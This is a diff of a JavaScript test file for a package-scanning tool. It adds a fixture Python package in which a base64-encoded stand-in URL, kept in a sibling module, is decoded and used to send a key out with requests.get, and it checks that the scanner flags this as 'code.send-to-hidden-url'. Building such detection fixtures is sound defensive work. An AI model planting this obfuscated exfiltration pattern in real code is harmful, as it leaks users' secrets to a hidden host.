@@ -54,3 +54,25 @@ test('the same module, not imported or run by setup.py, is call-time code of the
   const report = await scanner.scanTree(dir);
   assert.equal(report.findings.find((f) => f.rule === 'code.recon-beacon'), undefined);
 });
+
+test('a string constant imported from a sibling module is known where it is used', async () => {
+  const dir = tree('constants', {
+    'setup.py': 'from setuptools import setup\nsetup(name="x", packages=["pkg"])\n',
+    'pkg/__init__.py': '',
+    'pkg/_utils/__init__.py': '',
+    'pkg/_utils/signing.py': 'SIGN_KEY = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC9rPQ=="  # an inert address\n',
+    'pkg/account.py': 'import base64, requests\nfrom ._utils.signing import SIGN_KEY\ndef sign(key):\n    requests.get(base64.b64decode(SIGN_KEY) + key)\n',
+  });
+  const report = await scanner.scanTree(dir);
+  assert.ok(report.findings.some((f) => f.rule === 'code.send-to-hidden-url'), JSON.stringify(report.reasons));
+});
+
+test('module paths and string constants', async () => {
+  const { modulePaths, stringConstant } = await import('../../src/analyze/module-constants.js');
+  assert.deepEqual(modulePaths('p-1.0/pkg/account.py', '._utils.signing', 'p-1.0/'), ['p-1.0/pkg/_utils/signing.py', 'p-1.0/pkg/_utils/signing/__init__.py']);
+  assert.deepEqual(modulePaths('p-1.0/pkg/sub/a.py', '..conf', 'p-1.0/'), ['p-1.0/pkg/conf.py', 'p-1.0/pkg/conf/__init__.py']);
+  assert.deepEqual(modulePaths('p-1.0/pkg/a.py', 'pkg.conf', 'p-1.0/'), ['p-1.0/pkg/conf.py', 'p-1.0/pkg/conf/__init__.py', 'p-1.0/src/pkg/conf.py', 'p-1.0/src/pkg/conf/__init__.py']);
+  assert.equal(stringConstant('X = 1\nURL: str = "https://a.invalid"  # c\n', 'URL'), 'https://a.invalid');
+  assert.equal(stringConstant('def f():\n    URL = "inner"\n', 'URL'), undefined);
+  assert.equal(stringConstant('URL = "a" + b\n', 'URL'), undefined);
+});
